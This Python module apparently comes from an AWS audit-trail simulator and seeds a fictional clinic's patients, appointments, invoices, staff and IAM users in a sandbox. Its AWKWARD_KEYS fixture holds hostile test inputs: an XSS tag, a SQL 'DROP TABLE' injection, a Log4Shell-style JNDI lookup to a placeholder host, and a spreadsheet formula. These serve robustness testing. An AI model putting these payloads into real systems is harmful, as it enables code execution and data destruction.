"""The practice itself: its patients with awkward keys, its diary, and the people and workloads that act in it."""

import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from functools import cached_property
from typing import Any

from dynatrail.clock import iso
from dynatrail.sandbox.identities import Caller
from dynatrail.sandbox.sandbox import ANALYTICS, PRODUCTION, Sandbox
from dynatrail.sandbox.scenarios.house import new_key
from dynatrail.sandbox.scenarios.signals import ProgramLog
from dynatrail.sandbox.scenarios.stage import HOME, Actor, Stage
from dynatrail.sandbox.state import Credentials

Json = dict[str, Any]

CLINICS = ("north", "south")
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"
SDK = (
    "Boto3/1.44.5 md/Botocore#1.44.5 ua/2.1 os/linux#6.1 md/arch#x86_64 lang/python#3.13 exec-env/AWS_Lambda_python3.13"
)
CLI = "aws-cli/2.31.4 md/awscrt#0.28.2 ua/2.1 os/linux#6.8.0 md/arch#x86_64 lang/python#3.13 md/installer#exe"
OLD_SDK = "aws-sdk-java/1.11.1034 Linux/5.10 OpenJDK_64-Bit_Server_VM/25.302 java/1.8.0_302 vendor/example"

AWKWARD_KEYS = (
    "maria.gonzález+clinic@example.com",
    "o'brien.patrick@example.com",
    "000-12-3456",
    "900-65-4329",
    "患者-0042",
    "Ωmega 😷 Müller",
    '"quoted" patient',
    "<script>alert('x')</script>",
    "'; DROP TABLE Patients; --",
    "{{7*7}} ${jndi:ldap://192.0.2.99/a}",
    '=HYPERLINK("http://example.com","click")',
    "line\nbreak\tand\u202ebidi",
    "p#" + "long" * 120,
)
"""Keys that masking, SQL, HTML and spreadsheets must survive; all invented."""


@dataclass
class Practice:
    """What the people know: whom they treat, and which appointments and invoices there are.

    Attributes:
        actors: by name, before anybody has signed in.
        trail_arn: of the trail that watches the practice.
    """

    stage: Stage
    actors: dict[str, Actor]
    patients: list[str]
    appointments: list[tuple[str, str, str]] = field(default_factory=list)
    invoices: list[int] = field(default_factory=list)
    next_patient: int = 200
    next_invoice: int = 700_000
    trail_arn: str = ""

    @cached_property
    def program_log(self) -> ProgramLog:
        return ProgramLog(self.stage.sandbox)

    @property
    def random(self) -> random.Random:
        return self.stage.random

    def happens(self, share: float) -> bool:
        """True in that share of the cases."""
        return self.random.random() < share

    def patient(self) -> str:
        return self.random.choice(self.patients)

    def new_patient(self) -> str:
        self.next_patient += 1
        known = f"P-{self.next_patient:06d}"
        self.patients.append(known)
        return known

    def appointment(self) -> tuple[str, str, str]:
        """Clinic, start and patient of an appointment."""
        return self.random.choice(self.appointments[-60:])

    def new_appointment(self, patient: str) -> tuple[str, str, str]:
        starts = self.stage.now.replace(minute=0, second=0, microsecond=0) + timedelta(
            days=self.random.randint(1, 20), minutes=self.random.randrange(0, 600, 15)
        )
        made = (self.random.choice(CLINICS), f"{iso(starts)}#{self.random.randrange(100):02d}", patient)
        self.appointments.append(made)
        return made

    def new_invoice(self) -> int:
        self.next_invoice += 1
        self.invoices.append(self.next_invoice)
        return self.next_invoice


def patient_item(patient: str) -> Json:
    return {
        "patient_id": {"S": patient},
        "email": {"S": f"patient{abs(hash_of(patient)) % 10_000}@example.com"},
        "name": {"S": "Name withheld"},
        "born": {"S": "1971-01-01"},
        "allergies": {"SS": ["none known"]},
        "contact": {"M": {"phone": {"S": "+1-555-0100"}, "verified": {"BOOL": True}}},
    }


def hash_of(text: str) -> int:
    """A number from a text, the same in every process."""
    return int.from_bytes(text.encode()[-8:], "big")


def invoice_item(number: int, patient: str, cents: int) -> Json:
    return {
        "invoice_number": {"N": str(number)},
        "patient": {"S": patient},
        "amount": {"N": f"{cents / 100:.2f}"},
        "paid": {"BOOL": False},
    }


def open_practice(sandbox: Sandbox, stage: Stage, patients: int) -> Practice:
    """Put the first patients, appointments and invoices in, unrecorded, and introduce everybody."""
    practice = Practice(stage, {**_staff(), **_users(sandbox)}, list(AWKWARD_KEYS))
    practice.patients += [f"P-{number:06d}" for number in range(1, patients - len(AWKWARD_KEYS) + 1)]
    silent = Caller(recorded=False)
    client = sandbox.client("dynamodb", sandbox.root(PRODUCTION, HOME), caller=silent)
    writes: list[tuple[str, Json]] = [("Patients", patient_item(patient)) for patient in practice.patients]
    for _ in range(40):
        clinic, starts, patient = practice.new_appointment(practice.patient())
        writes.append(
            ("Appointments", {"clinic_id": {"S": clinic}, "starts_at": {"S": starts}, "patient_id": {"S": patient}})
        )
        writes.append(
            ("Invoices", invoice_item(practice.new_invoice(), patient, practice.random.randint(2_000, 40_000)))
        )
    writes += [("AuditConfig", {"setting": {"S": name}, "value": {"S": "on"}}) for name in ("retention", "export")]
    for begin in range(0, len(writes), 25):
        requests: Json = {}
        for table, item in writes[begin : begin + 25]:
            requests.setdefault(table, []).append({"PutRequest": {"Item": item}})
        client.batch_write_item(RequestItems=requests)
    archive = [{"PutRequest": {"Item": invoice_item(number, "archived", 100)}} for number in range(1, 21)]
    client.batch_write_item(RequestItems={"InvoicesArchive": archive})
    return practice


def resume_practice(sandbox: Sandbox, stage: Stage) -> Practice:
    """Take up what is in the tables; nothing is written, and only those who sign in afresh are there."""
    client = sandbox.client("dynamodb", sandbox.root(PRODUCTION, HOME), caller=Caller(recorded=False))

    def items(table: str) -> list[Json]:
        pages = client.get_paginator("scan").paginate(TableName=table)
        return [item for page in pages for item in page["Items"]]

    practice = Practice(stage, _staff(), sorted(item["patient_id"]["S"] for item in items("Patients")))
    practice.appointments = sorted(
        (item["clinic_id"]["S"], item["starts_at"]["S"], item["patient_id"]["S"])
        for item in items("Appointments")
        if "patient_id" in item
    )
    practice.invoices = sorted(int(item["invoice_number"]["N"]) for item in items("Invoices"))
    practice.next_invoice = practice.invoices[-1]
    known = [int(patient[2:]) for patient in practice.patients if patient[2:].isdigit()]
    practice.next_patient = max([practice.next_patient, *known])
    return practice


def _staff() -> dict[str, Actor]:
    """Who signs in afresh each time: people through Identity Center, workloads, services."""
    people = ("nurse.alice", "nurse.bo", "nurse.carmen", "nurse.deniz", "dr.eriksen", "dr.farah")
    found = {
        name: Actor(
            f"{name}@example.com",
            "person",
            PRODUCTION,
            Caller(source_ip_address=f"192.0.2.{10 + i}", user_agent=BROWSER),
        )
        for i, name in enumerate(people)
    }
    workloads = {
        "booking-api": ("192.0.2.128", SDK, "vpce-0123456789abcdef0"),
        "billing-job": ("192.0.2.129", OLD_SDK, ""),
        "nightly-export": ("192.0.2.130", SDK, ""),
        "deploy": ("198.51.100.77", CLI, ""),
    }
    for name, (address, agent, endpoint) in workloads.items():
        caller = Caller(source_ip_address=address, user_agent=agent, vpc_endpoint_id=endpoint)
        found[name] = Actor(name, "workload", PRODUCTION, caller)
    scaling = Caller(invoked_by="dynamodb.application-autoscaling.amazonaws.com")
    found["autoscaling"] = Actor("application-autoscaling", "service", PRODUCTION, scaling)
    return found


def _users(sandbox: Sandbox) -> dict[str, Actor]:
    """IAM users, each with an access key of their own."""
    found = {}
    users = {
        "marta.dba": ("192.0.2.40", BROWSER, PRODUCTION),
        "tomas.developer": ("192.0.2.41", CLI, PRODUCTION),
        "robert.former": ("192.0.2.42", CLI, PRODUCTION),
        "ines.analyst": ("198.51.100.20", CLI, ANALYTICS),
    }
    for name, (address, agent, account) in users.items():
        key = new_key(sandbox, name)
        arn = f"arn:aws:iam::{account}:user/{name}"
        found[name] = Actor(
            f"{name}@example.com",
            "person",
            account,
            Caller(source_ip_address=address, user_agent=agent),
            Credentials(key["AccessKeyId"], key["SecretAccessKey"], HOME),
            [arn],
        )
    return found


def diary_day(instant: datetime) -> str:
    """Start of a sort key of that day's appointments."""
    return f"{instant:%Y-%m-%d}"
